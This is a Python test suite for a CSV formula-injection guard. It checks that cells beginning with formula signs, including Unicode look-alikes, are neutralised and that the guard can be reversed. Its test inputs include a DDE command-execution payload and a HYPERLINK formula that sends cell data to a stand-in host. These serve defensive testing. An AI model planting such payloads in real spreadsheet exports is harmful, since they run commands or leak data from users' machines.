import csv
import io
import sys
import unicodedata

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from fabrique.domain.formulas import guarded, unguarded

HOSTILE = (
    "=1+1",
    "+1+1",
    "-1",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "  =1",
    "\u00a0=1",
    "\u200b\ufeff=1",
    "\u202e=1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "−1",
    "⁼1",
    "'=1",
    "''=1",
    '"=1+1',
    "=cmd|' /C calc'!A0",
    "x,=1+1,y",
    "x;=1+1;y",
    "x\t=1+1\ty",
    "x|=1+1",
    "x\n=1+1\ny",
    "x\u2028=1",
    '","=1+1","',
    '";=1;"',
    '=HYPERLINK("http://x.example/?"&A1)',
    "\x00=1",
)
SIGNS = st.text("=+-@'\";,|\t\n\r \u200b\uff1d\u2212a1\x00")


@pytest.mark.parametrize("text", ["", "ok", "L'été", "3,4", "a = b", "peut-être", "1 - 2", "'mot'"])
def test_other_texts_stay_as_they_are(text):
    assert guarded(text) == text


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("  -1", "  '-1"),
        ("'=1", "''=1"),
        ("\tmot", "'\tmot"),
        ("\t=1", "'\t'=1"),
        ("oui, -1", "oui, '-1"),
        ("- a\n- b", "'- a\n'- b"),
    ],
)
def test_a_formula_gets_an_apostrophe(text, cell):
    assert guarded(text) == cell


@given(SIGNS | st.text())
@example("\t''=1")
@example("'\t=1")
def test_the_guard_can_be_taken_away(text):
    assert unguarded(guarded(text)) == text


def evaluated(cell):
    """What the most eager spreadsheet would compute: it trims, and reads signs as Unicode does."""
    seen = [c for c in cell if not (c.isspace() or c == '"' or unicodedata.category(c)[0] in "CZ")]
    return bool(seen) and (unicodedata.normalize("NFKC", seen[0])[0] in "=+-@\u2212")


@pytest.mark.parametrize("delimiter", [";", ",", "\t", "|"])
@given(text=SIGNS | st.sampled_from(HOSTILE))
def test_no_reader_of_a_line_finds_a_formula(delimiter, text):
    line = '"P01";"' + guarded(text).replace('"', '""') + '";3\r\n'
    one_break = io.StringIO(line.replace("\r", "\n"))
    cells = [cell for row in csv.reader(one_break, delimiter=delimiter) for cell in row]
    cells += [cell for piece in line.splitlines() for cell in piece.split(delimiter)]
    assert [cell for cell in cells if evaluated(cell)] == []


def test_every_sign_that_unicode_reads_as_one_of_them_is_guarded():
    look_alike = (chr(n) for n in range(sys.maxunicode + 1) if not 0xD800 <= n < 0xE000)
    found = [c for c in look_alike if unicodedata.normalize("NFKC", c)[0] in "=+-@\u2212"]
    assert [c for c in found if guarded(c + "1") == c + "1"] == []
